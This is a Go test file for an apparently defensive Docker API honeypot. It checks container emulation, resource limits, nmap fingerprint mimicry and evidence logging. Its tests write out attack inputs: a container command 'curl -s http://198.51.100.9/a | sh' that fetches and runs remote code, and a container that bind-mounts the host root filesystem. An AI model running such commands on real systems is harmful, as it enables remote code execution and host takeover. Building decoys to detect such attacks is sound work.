package docker

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"regexp"
	"strings"
	"testing"
	"time"

	"bartizan/internal/decoy/decoytest"
	"bartizan/internal/observe"
)

// do sends a request and returns the answer.
func (r *rig) do(t testing.TB, method, path, body string) (status int, answer string) {
	t.Helper()
	req, err := http.NewRequest(method, "http://"+r.Addr+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	client := &http.Client{Timeout: decoytest.Patience, Transport: &http.Transport{DisableKeepAlives: true}}
	resp, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(b)
}

// create makes a container and returns its id.
func (r *rig) create(t testing.TB, body string) string {
	t.Helper()
	if status, a := r.do(t, "POST", "/images/create?fromImage=alpine", ""); status != 200 {
		t.Fatal(a)
	}
	status, a := r.do(t, "POST", "/containers/create", body)
	var v struct{ ID string }
	if err := json.Unmarshal([]byte(a), &v); err != nil || status != 201 || len(v.ID) != 64 {
		t.Fatalf("create: %d %s", status, a)
	}
	return v.ID
}

func TestConfig(t *testing.T) {
	for _, edit := range []func(*Config){func(c *Config) { c.MaxBody = 1 }, func(c *Config) { c.Visitors = 0 }, func(c *Config) { c.Hold = 0 }} {
		c := Default()
		edit(&c)
		if _, err := New(c); err == nil {
			t.Errorf("accepted: %+v", c)
		}
	}
}

// A prompt on a terminal: attach first, then start on another connection.
func TestTerminal(t *testing.T) {
	r := start(t)
	id := r.create(t, `{"Image":"alpine","Cmd":["sh"],"Tty":true,"OpenStdin":true,"AttachStdin":true,"HostConfig":{"Binds":["/:/mnt"]}}`)
	c := r.Dial()
	defer c.Close()
	fmt.Fprintf(c, "POST /v1.41/containers/%s/attach?stdin=1&stdout=1&stderr=1&stream=1 HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\n", id)
	got := expect(t, c, "\r\n\r\n")
	if !strings.HasPrefix(got, "HTTP/1.1 101 UPGRADED\r\nContent-Type: application/vnd.docker.raw-stream\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n") {
		t.Fatalf("attach: %q", got)
	}
	if status, a := r.do(t, "POST", "/containers/"+id+"/start", ""); status != 204 {
		t.Fatalf("start: %d %s", status, a)
	}
	if got := expect(t, c, "# "); strings.Contains(got, "Last login") || !strings.Contains(got, id[:12]) {
		t.Errorf("the prompt of a container: %q", got)
	}
	fmt.Fprint(c, "ls -d /mnt/etc; id -u\r")
	if got := expect(t, c, "# "); !strings.Contains(got, "/mnt/etc\r\n0\r\n") {
		t.Errorf("the terminal shows %q", got)
	}
	r.commanded("ls -d /mnt/etc; id -u")
	fmt.Fprint(c, "exit 6\r")
	if _, err := io.ReadAll(c); err != nil {
		t.Errorf("the end: %v", err)
	}
	if status, a := r.do(t, "POST", "/containers/"+id+"/wait", ""); status != 200 || a != "{\"StatusCode\":6}\n" {
		t.Errorf("wait: %d %q", status, a)
	}
}

// expect reads until something was said.
func expect(t *testing.T, c io.Reader, what string) string {
	t.Helper()
	var got []byte
	b := make([]byte, 1)
	for !bytes.Contains(got, []byte(what)) {
		if _, err := c.Read(b); err != nil {
			t.Fatalf("wanted %q, got %q and %v", what, got, err)
		}
		got = append(got, b...)
	}
	return string(got)
}

// Frames carry both streams of a container without a terminal.
func TestFrames(t *testing.T) {
	r := start(t)
	id := r.create(t, `{"Image":"alpine","Cmd":["sh","-c","echo a; echo b >&2"]}`)
	if status, _ := r.do(t, "POST", "/containers/"+id+"/start", ""); status != 204 {
		t.Fatal(status)
	}
	r.do(t, "POST", "/containers/"+id+"/wait", "")
	if _, a := r.do(t, "GET", "/containers/"+id+"/logs?stdout=1&stderr=1", ""); a != "\x01\x00\x00\x00\x00\x00\x00\x02a\n\x02\x00\x00\x00\x00\x00\x00\x02b\n" {
		t.Errorf("logs: %q", a)
	}
	if status, a := r.do(t, "GET", "/containers/"+id+"/logs", ""); status != 400 {
		t.Errorf("logs of nothing: %d %s", status, a)
	}
}

// What a visitor makes is bounded, and is not seen by another.
func TestBounds(t *testing.T) {
	r := start(t)
	resident := len(r.host.Containers)
	var first, last string
	for i := range maxContainers + 5 {
		last = r.create(t, `{"Image":"alpine","Cmd":["sh","-c","`+strings.Repeat("x", 20000)+`"]}`)
		if i == 0 {
			first = last
		}
	}
	var list []struct{ ID, Command string }
	_, a := r.do(t, "GET", "/containers/json?all=1", "")
	if err := json.Unmarshal([]byte(a), &list); err != nil || len(list) != maxContainers+resident {
		t.Fatalf("%d containers, %v", len(list), err)
	}
	if list[0].ID != last || len(list[0].Command) > maxArg+20 {
		t.Errorf("newest %s with a command of %d bytes", list[0].ID, len(list[0].Command))
	}
	if status, _ := r.do(t, "GET", "/containers/"+first+"/json", ""); status != 404 {
		t.Errorf("the oldest is still there: %d", status)
	}
	for i := range maxImages + 10 {
		r.do(t, "POST", fmt.Sprintf("/images/create?fromImage=img%d", i), "")
	}
	var images []struct{ ID string }
	_, a = r.do(t, "GET", "/images/json", "")
	if err := json.Unmarshal([]byte(a), &images); err != nil || len(images) != maxImages {
		t.Errorf("%d images, %v", len(images), err)
	}
}

func TestOutputIsBounded(t *testing.T) {
	r := start(t)
	id := r.create(t, `{"Image":"alpine","Cmd":["sh","-c","yes 0123456789 | head -c 200000"]}`)
	r.do(t, "POST", "/containers/"+id+"/start", "")
	r.do(t, "POST", "/containers/"+id+"/wait", "")
	if _, a := r.do(t, "GET", "/containers/"+id+"/logs?stdout=1", ""); len(a) < maxOutput || len(a) > 20*maxOutput {
		t.Errorf("%d bytes of logs", len(a))
	}
}

// The store forgets the visitor that has not been there for longest.
func TestStoreForgets(t *testing.T) {
	st := newStore(2)
	p := decoytest.Persona()
	add := func(i byte) *engine {
		peer := netip.PrefixFrom(netip.AddrFrom4([4]byte{192, 0, 2, i}), 32)
		return st.of(peer, p)
	}
	a, b := add(1), add(2)
	if add(1) != a {
		t.Error("a visitor is not known again")
	}
	add(3)
	if add(1) != a || st.order.Len() != 2 {
		t.Error("the wrong one was forgotten")
	}
	if add(2) == b {
		t.Error("nobody was forgotten")
	}
	one, two := add(4), add(5)
	one.keep(maxKept / 2)
	two.keep(maxKept)
	if st.order.Len() != 1 || st.kept != maxKept {
		t.Errorf("%d engines with %d bytes", st.order.Len(), st.kept)
	}
	one.keep(1)
	if st.kept != maxKept {
		t.Error("what was forgotten is counted")
	}
}

// Whoever waits for what never happens is let go, and leaves nothing behind.
func TestWaitingEnds(t *testing.T) {
	r := start(t)
	c := r.Dial()
	fmt.Fprint(c, "GET /events HTTP/1.1\r\nHost: x\r\n\r\n")
	expect(t, c, "\r\n\r\n")
	c.Close()
	r.Quiet(1)

	c = r.Dial()
	defer c.Close()
	fmt.Fprint(c, "POST /containers/"+r.host.Containers[0].ID+"/wait HTTP/1.1\r\nHost: x\r\n\r\n")
	expect(t, c, "\r\n\r\n")
	at := time.Now()
	r.Stop()
	if d := time.Since(at); d > decoytest.Patience/2 {
		t.Errorf("stopping took %v", d)
	}
}

func TestHoldIsBounded(t *testing.T) {
	r := &rig{Rig: decoytest.Start(t, build(func(c *Config) { c.Hold = 100 * time.Millisecond })(t), decoytest.Persona(), decoytest.Limits())}
	c := r.Dial()
	defer c.Close()
	at := time.Now()
	fmt.Fprint(c, "GET /events HTTP/1.1\r\nHost: x\r\n\r\n")
	if _, err := io.ReadAll(c); err != nil {
		t.Fatal(err)
	}
	if d := time.Since(at); d < 90*time.Millisecond || d > decoytest.Patience/2 {
		t.Errorf("held for %v", d)
	}
}

func TestEvidence(t *testing.T) {
	r := start(t)
	const body = `{"Image":"alpine","Cmd":["sh","-c","curl -s http://198.51.100.9/a | sh"]}`
	id := r.create(t, body)
	o := r.called("POST /containers/create", "curl -s http://198.51.100.9/a")
	if o.Call.Detail != body || len(o.Evidence) != 1 || !bytes.HasSuffix(o.Evidence[0].Data, []byte("\r\n\r\n"+body)) {
		t.Errorf("call %+v, %d pieces of evidence", o.Call, len(o.Evidence))
	}
	r.do(t, "POST", "/containers/"+id+"/start", "")
	r.commanded("curl -s http://198.51.100.9/a")
	r.saw("download", func(o *observe.Observation) bool { return o.Fetch != nil && o.Fetch.URL == "http://198.51.100.9/a" })
}

// The answers by which nmap (service probes HTTPOptions and GetRequest) knows
// an engine and its version.
func TestScannersKnowIt(t *testing.T) {
	r := start(t)
	d := r.host.Docker
	version := regexp.MustCompile(`^HTTP/1\.0 200 OK\r\nApi-Version: ([\d.]+)\r\nDocker-Experimental: false\r\nOstype: (.+)\r\nServer: Docker/(\d[\w.-]*) \(.*\)\r\nDate: .*\r\nContent-Length: 0\r\n\r\n`)
	g := version.FindStringSubmatch(string(r.Visit([]byte("OPTIONS / HTTP/1.0\r\n\r\n"))))
	if len(g) != 4 || g[1] != d.APIVersion || g[3] != d.Version {
		t.Errorf("options: %q", g)
	}
	soft := regexp.MustCompile(`^HTTP/1\.0 404 Not Found\r\nContent-Type: application/json\r\nDate: .*\r\nContent-Length: 29\r\n\r\n\{"message":"page not found"\}\n`)
	if got := r.Visit([]byte("GET / HTTP/1.0\r\n\r\n")); !soft.Match(got) {
		t.Errorf("front page: %q", got)
	}
}
